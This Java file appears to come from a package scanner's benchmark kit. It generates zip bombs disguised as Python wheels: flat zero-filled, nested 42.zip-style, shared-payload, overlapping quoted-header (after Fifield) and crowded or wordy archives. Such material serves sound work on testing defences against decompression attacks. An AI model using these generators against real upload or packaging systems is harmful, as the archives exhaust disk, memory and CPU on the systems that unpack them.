package io.pypiguard.examples.benchmarks;

import io.pypiguard.testkit.ZipRecord;
import io.pypiguard.testkit.ZipWriter;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.zip.CRC32;

/** Zip files that are much more work than they look. All of them are wheels, too. */
final class ZipBombs {

  private static final String METADATA = "demo-1.0.dist-info/METADATA";
  private static final byte[] METADATA_TEXT =
      "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".getBytes(StandardCharsets.UTF_8);

  private ZipBombs() {}

  /**
   * Writes an archive with one large file of zeros.
   *
   * @param size length of the file in bytes
   * @param out where to write
   * @throws IOException if {@code out} cannot be written
   */
  static void flat(long size, OutputStream out) throws IOException {
    out.write(wheel().add(zeros("demo/zeros.bin", size).withZip64()).build());
  }

  /**
   * Writes an archive of archives of archives, in the manner of 42.zip.
   *
   * @param levels how many archives lie around each file
   * @param fanOut how many archives or files are in each archive
   * @param size length of each file in bytes, less than 4 GiB
   * @param out where to write
   * @throws IOException if {@code out} cannot be written
   */
  static void nested(int levels, int fanOut, long size, OutputStream out) throws IOException {
    ZipRecord leaf = zeros("zeros.bin", size);
    byte[] archive = ZipWriter.create().add(leaf).build();
    for (int level = 1; level < levels; level++) {
      ZipWriter around = level == levels - 1 ? wheel() : ZipWriter.create();
      byte[] deflated = ZipRecord.deflate(archive);
      for (int i = 0; i < fanOut; i++) {
        around.add(ZipRecord.encoded(i + ".zip", ZipRecord.DEFLATED, deflated, archive));
      }
      archive = around.build();
    }
    out.write(archive);
  }

  /**
   * Writes an archive with many files whose content is the same bytes of the archive.
   *
   * @param files how many files
   * @param size length of each file in bytes
   * @param out where to write
   * @throws IOException if {@code out} cannot be written
   */
  static void sharing(int files, long size, OutputStream out) throws IOException {
    ZipWriter zip = wheel();
    int offset = zip.position();
    zip.add(zeros("demo/0.bin", size));
    for (int i = 1; i < files; i++) {
      zip.add(zeros("demo/" + i + ".bin", size).withoutLocal().offset(offset));
    }
    out.write(zip.build());
  }

  /**
   * Writes an archive with many files whose contents overlap, though every file has a local header
   * of its own: the content of each begins with a stored block that quotes the header of the next,
   * whose content then is its own.
   *
   * @param files how many files
   * @param size length of the last file in bytes; the others are a little longer
   * @param out where to write
   * @throws IOException if {@code out} cannot be written
   * @see <a href="https://www.bamsoftware.com/hacks/zipbomb/">David Fifield, A better zip bomb</a>,
   *     section "Second insight: quoting local file headers"
   */
  static void quoting(int files, long size, OutputStream out) throws IOException {
    // From the last file to the first, since each one contains all that follow.
    byte[] kernel = deflatedZeros(size);
    byte[] content = kernel;
    byte[] headers = new byte[0];
    long[] offsetsFromEnd = new long[files];
    long[] checksums = new long[files];
    for (int i = files - 1; i >= 0; i--) {
      checksums[i] = checksum(headers, size);
      byte[] header =
          ZipHeaders.local(name(i), checksums[i], content.length, headers.length + size);
      byte[] file = join(header, content);
      offsetsFromEnd[i] = file.length;
      content = i == 0 ? file : join(storedBlockHeader(header.length), file);
      headers = join(header, headers);
    }
    ZipWriter zip = wheel();
    long end = zip.position() + (long) content.length;
    zip.raw(content);
    long decoded = headers.length + size;
    for (int i = 0; i < files; i++) {
      int headerLength = ZipHeaders.local(name(i), 0, 0, 0).length;
      decoded -= headerLength;
      long fileSize = decoded;
      long checksum = checksums[i];
      long compressedSize = offsetsFromEnd[i] - headerLength;
      zip.add(
          ZipRecord.encoded(name(i), ZipRecord.DEFLATED, new byte[0], new byte[0])
              .both(h -> h.crc(checksum).compressedSize(compressedSize).size(fileSize))
              .withoutLocal()
              .offset(end - offsetsFromEnd[i]));
    }
    out.write(zip.build());
  }

  /**
   * Writes an archive with very many empty files. Keeps nothing in memory.
   *
   * @param files how many files
   * @param out where to write
   * @throws IOException if {@code out} cannot be written
   */
  static void crowded(int files, OutputStream out) throws IOException {
    long offset = 0;
    for (int i = 0; i < files; i++) {
      byte[] local = ZipHeaders.local(name(i), 0, 0, 0);
      out.write(local);
      offset += local.length;
    }
    long directoryOffset = offset;
    long directorySize = 0;
    long localOffset = 0;
    for (int i = 0; i < files; i++) {
      byte[] central = ZipHeaders.central(name(i), 0, 0, 0, localOffset);
      out.write(central);
      directorySize += central.length;
      localOffset += ZipHeaders.local(name(i), 0, 0, 0).length;
    }
    out.write(ZipHeaders.end(files, directoryOffset, directorySize));
  }

  /**
   * Writes an archive with very much source text, compressed well and yet not so well that its size
   * alone would give it away.
   *
   * @param files how many files
   * @param size length of each file in bytes, rounded down to whole pieces of less than a megabyte
   * @param out where to write
   * @throws IOException if {@code out} cannot be written
   */
  static void wordy(int files, long size, OutputStream out) throws IOException {
    byte[] piece = source();
    ByteArrayOutputStream deflated = new ByteArrayOutputStream();
    RepeatingDeflater text =
        new RepeatingDeflater(deflated).repeated(piece, size / piece.length).end();
    ZipWriter zip = wheel();
    for (int i = 0; i < files; i++) {
      zip.add(deflated(name(i), deflated.toByteArray(), text));
    }
    out.write(zip.build());
  }

  /** Returns lines that have little in common with one another. */
  private static byte[] source() {
    Random random = new Random(1);
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < 100; i++) {
      text.append("a%08x = %d\n".formatted(random.nextInt(), random.nextLong()));
    }
    // Over and over, since text that never repeats would make the archive large.
    return text.toString().repeat(200).getBytes(StandardCharsets.UTF_8);
  }

  private static ZipWriter wheel() {
    return ZipWriter.create().add(METADATA, METADATA_TEXT);
  }

  private static String name(int i) {
    return "demo/" + i + ".py";
  }

  private static ZipRecord zeros(String name, long size) throws IOException {
    ByteArrayOutputStream deflated = new ByteArrayOutputStream();
    RepeatingDeflater content = new RepeatingDeflater(deflated).zeros(size).end();
    return deflated(name, deflated.toByteArray(), content);
  }

  private static ZipRecord deflated(String name, byte[] payload, RepeatingDeflater content) {
    return ZipRecord.encoded(name, ZipRecord.DEFLATED, payload, new byte[0])
        .both(header -> header.crc(content.checksum()).size(content.size()));
  }

  private static byte[] deflatedZeros(long size) throws IOException {
    ByteArrayOutputStream deflated = new ByteArrayOutputStream();
    new RepeatingDeflater(deflated).zeros(size).end();
    return deflated.toByteArray();
  }

  private static long checksum(byte[] beginning, long zeros) {
    CRC32 checksum = new CRC32();
    checksum.update(beginning);
    byte[] piece = new byte[1 << 16];
    for (long left = zeros; left > 0; left -= piece.length) {
      checksum.update(piece, 0, (int) Math.min(left, piece.length));
    }
    return checksum.getValue();
  }

  /** Returns the header of a deflate block that is not compressed and not the last (RFC 1951). */
  private static byte[] storedBlockHeader(int length) {
    return ByteBuffer.allocate(5)
        .order(ByteOrder.LITTLE_ENDIAN)
        .put((byte) 0)
        .putShort((short) length)
        .putShort((short) ~length)
        .array();
  }

  private static byte[] join(byte[] first, byte[] second) {
    return ByteBuffer.allocate(first.length + second.length).put(first).put(second).array();
  }
}
